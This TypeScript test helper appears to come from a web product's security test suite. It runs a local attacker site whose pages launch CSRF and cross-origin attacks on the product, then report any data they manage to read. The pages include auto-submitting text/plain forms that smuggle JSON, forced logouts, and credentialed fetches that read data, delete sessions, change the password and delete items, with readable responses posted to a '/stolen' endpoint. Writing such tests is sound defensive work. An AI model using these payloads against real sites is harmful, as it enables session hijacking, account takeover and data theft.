import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A site that attacks users who are logged in elsewhere. */
export interface Attacker {
  url: string;
  /** The paths of its pages. */
  attacks: string[];
  /** The data that it has got; empty if the product is safe. */
  stolen: string[];
  close(): Promise<void>;
}

/** Opens a site on `host`, on a free port, whose pages attack the product at `target`. */
export async function openAttacker(host: string, target: string): Promise<Attacker> {
  const pages = attacksOn(target);
  const stolen: string[] = [];
  const server = createServer((request, response) => {
    if (request.url === '/stolen')
      request.on('data', (data: Buffer) => stolen.push(data.toString()));
    response.setHeader('content-type', 'text/html');
    response.end(`<!doctype html><body>${pages[request.url ?? ''] ?? ''}`);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://${host}:${(server.address() as AddressInfo).port}`,
    attacks: Object.keys(pages).filter((path) => path !== '/frame'),
    stolen,
    close: async () => {
      server.close();
      server.closeAllConnections();
      await once(server, 'close');
    },
  };
}

function attacksOn(target: string): Record<string, string> {
  const api = `${target}/api/v1`;
  const account = `${target}/api/v2/account`;
  const steal = (requests: string) => `<script type="module">
    const tell = async (request) => {
      try {
        const answer = await request;
        if (answer.type !== 'opaque') await fetch('/stolen', { method: 'POST', body: await answer.text() });
      } catch {} // refused by the browser
    };
    const credentials = 'include';
    ${requests}
    document.title = 'done';
  </script>`;
  const form = (method: string, action: string) => `
    <form method="${method}" action="${action}" enctype="text/plain">
      <input name='{"title":"planted","status":"PENDING","x":"' value='"}'>
    </form>
    <script>document.forms[0].submit()</script>`;
  return {
    '/form-create': form('post', `${api}/create`),
    '/form-page-logout': form('post', `${api}/auth/page-logout`),
    '/form-logout': form('get', `${api}/auth/logout`),
    '/link-logout': `<script>location = '${api}/auth/logout'</script>`,
    '/image-logout': `<img src="${api}/auth/logout" onerror="document.title = 'done'">`,
    '/script-read': steal(`
      await tell(fetch('${api}/get/all', { credentials }));
      await tell(fetch('${account}/sessions', { credentials, headers: { 'x-seam-page': '1' } }));
      await tell(fetch('${api}/get/all', { credentials, mode: 'no-cors' }));
      await tell(fetch('${api}/get/all', { credentials, headers: { 'x-seam-page': '1' } }));`),
    '/script-write': steal(`
      const body = '{"title":"planted","status":"PENDING"}';
      const method = 'POST';
      await tell(fetch('${api}/create', { credentials, method, body, mode: 'no-cors' }));
      const headers = { 'x-seam-page': '1', 'content-type': 'application/json' };
      await tell(fetch('${api}/create', { credentials, method, body, headers }));
      await tell(fetch('${account}/sessions', { credentials, method: 'DELETE', headers }));
      await tell(fetch('${account}/password', { credentials, method: 'PUT', body, headers }));
      await tell(fetch('${api}/delete/tea', { credentials, method: 'DELETE', headers }));
      await tell(fetch('${api}/auth/page-logout', { credentials, method, headers }));`),
    '/frame': `<iframe src="${target}/" onload="document.title = 'done'"></iframe>`,
  };
}
